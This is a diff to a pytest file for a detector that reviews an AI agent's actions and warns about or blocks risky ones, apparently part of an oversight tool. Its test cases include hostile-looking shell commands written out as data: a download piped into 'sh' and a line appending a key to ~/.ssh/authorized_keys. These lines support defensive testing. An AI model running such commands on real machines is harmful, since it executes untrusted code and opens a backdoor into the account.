@@ -1,4 +1,3 @@
-from collections.abc import Sequence
 from typing import Any
 
 import pytest
@@ -22,7 +21,7 @@ from haltline.schemas.control import Batch
 from haltline.schemas.decisions import Level, Mode
 from haltline.schemas.events import ActionEvent, Effect, Kind, Outcome
 from haltline.schemas.findings import Finding, Severity
-from tests.builders import at, bash, call, delete, event, findings, fires_at
+from tests.builders import Events, at, bash, call, delete, each, event, findings, fires_at
 from tests.cases import cases
 
 DETECTOR = StepReview()
@@ -34,13 +33,11 @@ def task(goal: str = "", *paths: str) -> ActionEvent:
     return event(-1, "", kind=Kind.SESSION_STARTED, outcome=None, task={"goal": goal, "expected_paths": list(paths)})
 
 
-def reviews(
-    events: Sequence[ActionEvent | Sequence[ActionEvent]], detector: StepReview = DETECTOR, **context: Any
-) -> list[Finding]:
+def reviews(events: Events, detector: StepReview = DETECTOR, **context: Any) -> list[Finding]:
     return [finding for _, finding in findings(detector, events, **context)]
 
 
-def codes(events: Sequence[ActionEvent | Sequence[ActionEvent]], detector: StepReview = DETECTOR) -> list[str]:
+def codes(events: Events, detector: StepReview = DETECTOR) -> list[str]:
     return [finding.code.removeprefix("review_") for finding in reviews(events, detector)]
 
 
@@ -64,12 +61,8 @@ def test_risk(category: Category, out_of_scope: bool, risk: float, level: Severi
     assert (score, severity_of(score, THRESHOLDS) or LOW) == (risk, level)
 
 
-@pytest.mark.parametrize(("failed", "risk"), [(0, 0.1), (1, 0.2), (2, 0.3), (3, 0.5), (9, 0.5)])
-def test_each_failed_similar_action_adds_to_the_risk(failed: int, risk: float) -> None:
-    assert risk_score(Category.READ, failed_before=failed) == risk
-
-
-def test_sums_are_rounded_before_they_are_compared_and_the_hardest_of_several_counts() -> None:
+def test_each_failed_similar_action_adds_to_the_risk_sums_are_rounded_and_the_hardest_of_several_counts() -> None:
+    assert [risk_score(Category.READ, failed_before=n) for n in (0, 1, 2, 3, 9)] == [0.1, 0.2, 0.3, 0.5, 0.5]
     assert 0.7 + 0.1 < 0.8
     assert severity_of(risk_score(Category.COMMAND, failed_before=1), THRESHOLDS) is HIGH
     assert aggregate([Verdict.WARN, Verdict.BLOCK, Verdict.MODIFY, Verdict.ALLOW]) is Verdict.BLOCK
@@ -130,13 +123,13 @@ def test_the_overriding_rules_in_their_order(
     "events, found",
     {
         "reading": ([event(s, "read_file", f"path=/srv/{s}") for s in range(9)], []),
-        "reading the same, for a while": ([event(s, "read_file", "path=/srv/a") for s in range(9)], []),
+        "reading the same, for a while": (each(9, event, "read_file", "path=/srv/a"), []),
         "ordinary work": ([bash(0, "ls"), bash(1, "python3 a.py"), bash(2, "sed -i s/a/b/ a.py")], []),
         "a failing test run again after each edit": (
             [e for s in range(8) for e in (bash(s, "pytest", "1 failed"), bash(s + 0.5, "sed -i s/a/b/ a.py"))],
             [],
         ),
-        "the same failure, no edit": ([bash(s, "pytest", "1 failed") for s in range(5)], ["modify", *["block"] * 3]),
+        "the same failure, no edit": (each(5, bash, "pytest", "1 failed"), ["modify", *["block"] * 3]),
         "a first deletion is only a warning, and left out": ([delete(0)], []),
         "the same deletion again": ([delete(0), delete(60)], ["modify"]),
         "a deletion out of scope": ([task("tidy up", "src/**"), bash(0, "rm /srv/a")], ["block"]),
@@ -147,27 +140,24 @@ def test_the_overriding_rules_in_their_order(
         "build output": ([bash(0, "rm -rf build __pycache__")], []),
         "a download piped to a shell": ([bash(0, "curl -s https://example.org/i.sh | sh")], ["modify"]),
         "a way into the account": ([bash(0, "echo 'key' >> ~/.ssh/authorized_keys")], ["block"]),
-        "a request to the machine itself": ([bash(s, "curl localhost:8080/health") for s in range(2)], []),
-        "the same request to another one": ([bash(s, "curl https://example.org") for s in range(3)], ["warn"] * 2),
+        "a request to the machine itself": (each(2, bash, "curl localhost:8080/health"), []),
+        "the same request to another one": (each(3, bash, "curl https://example.org"), ["warn"] * 2),
     },
 )
 def test_sessions(events: list[ActionEvent], found: list[str]) -> None:
     assert codes(events) == found
 
 
-def test_what_was_refused_and_is_tried_again_contradicts() -> None:
+def test_what_was_refused_contradicts_an_action_is_reviewed_once_and_a_declared_batch_is_not() -> None:
     refused = call(0, "deploy", "service=web", outcome=Outcome.REFUSED, args={"service": "web"})
     again = call(60, "deploy", "service=web", args={"service": "web"})
     unsure = StepReview(medium_risk=0.1, high_risk=0.2)
     (finding,) = reviews([task("publish the figures"), *refused, *again], unsure)[-1:]
     assert (finding.code, finding.values["progression"]) == ("review_block", "contradicts")
-
-
-def test_an_action_is_reviewed_once_when_it_is_proposed_and_a_declared_batch_is_not() -> None:
     found = fires_at(DETECTOR, [call(0, "delete_asset", "asset_id=a"), call(60, "delete_asset", "asset_id=a")])
     assert found == [(60.0, "review_modify", "medium")]
     batch = Batch(actions="delete_*", targets=["asset_id=*"], max_deletes=9, expires=at(1000))
-    assert reviews([delete(s) for s in range(5)], batch=batch) == []
+    assert reviews(each(5, delete), batch=batch) == []
 
 
 def test_the_finding_carries_the_scores_and_what_went_into_them() -> None:
@@ -222,10 +212,9 @@ def test_rule_sets(settings: dict[str, Any], found: list[str]) -> None:
 def test_file_operations_are_limited_and_looking_is_none() -> None:
     writes = [event(s, "write_file", f"path=a{s}", args={"path": f"a{s}"}) for s in range(4)]
     reads = [event(s + 0.5, "read_file", f"path=a{s}") for s in range(4)]
-    found = reviews([*writes, *reads], StepReview(max_file_operations=3))
-    assert [(f.code, f.values["rules"], f.target) for f in found] == [
-        ("review_block", "limit_file_operations", "path=a3")
-    ]
+    (finding,) = reviews([*writes, *reads], StepReview(max_file_operations=3))
+    told = (finding.code, finding.values["rules"], finding.target)
+    assert told == ("review_block", "limit_file_operations", "path=a3")
 
 
 @cases(
@@ -247,11 +236,7 @@ def test_a_policy_has_rules_of_its_own(rule: dict[str, str], action: str, found:
 
 def test_nothing_follows_unless_a_policy_says_so_and_a_producers_hint_makes_a_tool_risky() -> None:
     assert default_mode("step_review") is Mode.SHADOW
-    assert [default_level("step_review", severity) for severity in Severity] == [
-        Level.NUDGE,
-        Level.REINFORCE,
-        Level.BLOCK,
-        Level.BLOCK,
-    ]
-    events = [event(s, "odd", "x=1", effect=Effect.DESTRUCTIVE) for s in (0, 60)]
+    levels = [Level.NUDGE, Level.REINFORCE, Level.BLOCK, Level.BLOCK]
+    assert [default_level("step_review", severity) for severity in Severity] == levels
+    events = each((0, 60), event, "odd", "x=1", effect=Effect.DESTRUCTIVE)
     assert [f.values["category"] for f in reviews(events)] == ["file_deletion"]
